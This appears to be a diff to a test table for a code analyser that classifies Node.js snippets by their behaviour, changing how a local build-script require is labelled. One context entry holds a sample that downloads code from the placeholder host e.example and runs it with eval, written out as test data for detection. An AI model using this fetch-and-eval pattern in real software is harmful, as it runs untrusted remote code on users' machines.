@@ -138,7 +138,7 @@ table("node", "code made of data", [
     code: "require('https').get('https://e.example/x', r => { let d=''; r.on('data', c => d+=c); r.on('end', () => eval(d)) })",
     does: ["receive e.example", "?evaluate node ", "?evaluate node UNKNOWN", "?opaque untrusted_code"],
   },
-  { why: "a script of one's own runs", code: "require('./build.js')", does: ["evaluate node ./build.js"] },
+  { why: "a script of one's own runs", code: "require('./build.js')", does: ["load ./build.js"] },
   {
     why: "a module nobody chose by name is opaque when called",
     code: "require(process.argv[2]).run()",
